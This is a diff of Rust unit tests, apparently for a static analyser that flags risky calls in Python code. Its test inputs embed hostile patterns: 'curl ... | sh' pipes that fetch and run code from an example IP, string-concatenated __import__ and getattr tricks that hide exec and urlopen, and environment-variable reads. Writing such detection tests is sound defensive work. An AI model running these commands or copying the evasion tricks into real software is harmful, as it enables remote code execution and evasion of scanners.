@@ -3,12 +3,8 @@
 use super::*;
 use crate::lang::test_util::{self, assert_has_all, has_pipe};
 
-fn facts(src: &str) -> Vec<FactKind> {
-    test_util::facts(Language::Python, src)
-}
-
 fn callees(src: &str) -> Vec<String> {
-    test_util::callees(facts(src))
+    test_util::callees(test_util::facts(Language::Python, src))
 }
 
 #[test]
@@ -32,14 +28,15 @@ fn with_as_binds_and_reassignment_forgets() {
     let c = callees(
         "import requests\nwith requests.Session() as s:\n    s.get(u)\ns = 1\ns.get(u)\nlocal = thing()\nlocal.run()",
     );
-    assert!(c.contains(&"requests.Session().get".to_string()), "{c:?}");
-    assert!(c.contains(&"s.get".to_string()), "{c:?}");
-    assert!(c.contains(&"local.run".to_string()), "{c:?}");
+    assert_has_all(&c, &["requests.Session().get", "s.get", "local.run"]);
 }
 
 #[test]
 fn f_strings_with_placeholders_are_dynamic_but_still_shell() {
-    let f = facts("import os\nos.system(f'curl {url} | sh')\nos.system(f'ls')");
+    let f = test_util::facts(
+        Language::Python,
+        "import os\nos.system(f'curl {url} | sh')\nos.system(f'ls')",
+    );
     let args: Vec<&Vec<Arg>> = f
         .iter()
         .filter_map(|k| match k {
@@ -54,7 +51,8 @@ fn f_strings_with_placeholders_are_dynamic_but_still_shell() {
 
 #[test]
 fn computed_subscripts_and_call_results_as_members() {
-    let m = test_util::members(facts(
+    let m = test_util::members(test_util::facts(
+        Language::Python,
         "import os\na = os.environ[name]\nb = os.environ['HOME']\nc = os.environ.copy()\nprint(c)\nd = os.environ\nprint(d)",
     ));
     assert!(m.contains(&"os.environ[]".to_string()), "{m:?}");
@@ -104,8 +102,10 @@ fn names_and_getattr_resolve_through_folding() {
     let c = callees(
         "import builtins\nm = __import__('url' + 'lib.request')\nm.urlopen(u)\nx = getattr(builtins, 'ex' + 'ec')\nx(code)\nimport os\ncmd = 'curl -s http://203.0.113.9/a | sh'\nos.system(cmd)",
     );
-    assert!(c.contains(&"urllib.request.urlopen".to_string()), "{c:?}");
-    assert!(c.contains(&"exec".to_string()), "{c:?}");
-    let f = facts("import os\ncmd = 'curl -s http://203.0.113.9/a | sh'\nos.system(cmd)");
+    assert_has_all(&c, &["urllib.request.urlopen", "exec"]);
+    let f = test_util::facts(
+        Language::Python,
+        "import os\ncmd = 'curl -s http://203.0.113.9/a | sh'\nos.system(cmd)",
+    );
     assert!(has_pipe(&f, "curl", "sh"), "{f:?}");
 }
